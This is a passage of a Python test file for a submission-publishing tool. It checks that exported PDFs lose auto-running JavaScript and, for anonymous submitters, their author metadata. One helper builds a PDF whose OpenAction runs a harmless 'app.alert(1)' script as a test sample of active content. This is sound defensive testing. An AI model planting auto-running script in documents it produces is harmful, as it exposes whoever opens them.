    """A real PDF that runs JavaScript when opened and names its author in its properties."""
    import pikepdf

    with pikepdf.open(io.BytesIO(text_pdf(text))) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        pdf.Root.OpenAction = pdf.make_indirect(script)
        pdf.docinfo["/Author"] = author
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def test_copied_files_carry_no_script_and_an_anonymous_authors_name_is_taken_out(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """GIVEN two consenting submissions whose PDFs run a script when opened, one anonymous
    whose PDF names its author in its properties
    WHEN the files to upload are exported
    THEN neither copy holds the script, the anonymous one holds no author, and the dry run
    says what was taken out."""
    import pikepdf

    monkeypatch.setenv("COLUMNS", "300")
    folder = tmp_path / "in"
    write_mail(folder, "Open Borders Lab <lab@obl.example.org>", "Submission",
               "We agree to the publication of our submission.\n\nOpen Borders Lab\n",
               files=(("obl.pdf", "application/pdf",
                       _with_script_and_author("Our findings.", "Lab Staff")),))  # fmt: skip
    write_mail(folder, "Maria Quispe <m.quispe@mail.example.net>", "Testimony",
               "My testimony may be published, but without my name, for my safety.\n",
               files=(("testimony.pdf", "application/pdf",
                       _with_script_and_author("What I saw.", "Maria Quispe")),))  # fmt: skip
    assert run("import", str(folder)).exit_code == 0
    upload = tmp_path / "upload"
    published = export(run, "--files", str(upload))
    names = sorted(f for e in entries(published).values() for f in e["files"])
    assert sorted(p.name for p in upload.iterdir()) == names and len(names) == 2
    for path in upload.iterdir():
        with pikepdf.open(path) as pdf:
            assert "/OpenAction" not in pdf.Root
            if path.name.startswith("Anonymous"):
                assert "/Author" not in pdf.docinfo and b"Quispe" not in path.read_bytes()
    rows = dry_run(run)
    assert all("active_content: taken out of" in row for row in rows.values())


def test_each_file_is_made_safe_once_and_copied_as_it_was_made_safe(
    run: Run, tmp_path: Path, config_path: Path
) -> None:
    """GIVEN a consenting submission whose PDF runs a script, an anonymous one whose PDF
    names its author, and a consenting one whose PDF has nothing to take out
    WHEN the publish list is built with its files read and the files are copied
    THEN each stored file is read once, the copies are what making it safe gives (the
    submitter's own bytes where nothing was taken out), and a list built without reading
    its files is never copied."""
    from wgsubmit.config import load_config
    from wgsubmit.publish import build
    from wgsubmit.sanitize import for_publication
    from wgsubmit.store import Store
    from wgsubmit.upload import files_copied

    folder = tmp_path / "in"
    for sender, body, data in (
        ("Open Borders Lab <lab@obl.example.org>", "We agree to the publication of our "
         "submission.", _with_script_and_author("Our findings.", "Lab Staff")),
        ("Maria Quispe <m.quispe@mail.example.net>", "My testimony may be published, but "
         "without my name, for my safety.", _with_script_and_author("What I saw.", "Maria Quispe")),
        ("Frontier Watch <info@fw.example.org>", "Our submission may be published.",
         text_pdf("Private guards at the border.")),
    ):  # fmt: skip
        write_mail(
            folder, sender, "Submission", body + "\n", files=(("s.pdf", "application/pdf", data),)
        )
    assert run("import", str(folder)).exit_code == 0
    config = load_config(str(config_path))
    reads: list[str] = []
    with Store.open_for_reading(config.store_path) as store:

        def read(sha256: str) -> bytes:
            reads.append(sha256)
            return store.file_path(sha256).read_bytes()

        messages = store.messages(include_all=True)
        publish_list = build(messages, config, read=read)
        files = [f for e in publish_list.entries for f in e.files]
        assert len(files) == 3 and sorted(reads) == sorted({f.sha256 for f in files})
        with files_copied(publish_list, tmp_path / "upload", store.file_path) as copied:
            assert [p.name for p in copied] == [f.name for f in files]
        for f in files:
            assert f.sha256 is not None
            stored = store.file_path(f.sha256).read_bytes()
            cleaned = for_publication(stored, "pdf", f.anonymous)
            expected = cleaned.data if cleaned.removed or f.anonymous else stored
            assert (tmp_path / "upload" / f.name).read_bytes() == expected
        assert sum(f.safe_data is None for f in files) == 1  # Frontier Watch's, as sent
        unread = build(messages, config)
        with (
            pytest.raises(ValueError, match="not made safe"),
            files_copied(unread, tmp_path / "unread", store.file_path),
        ):
            pass
    assert not (tmp_path / "unread").exists()
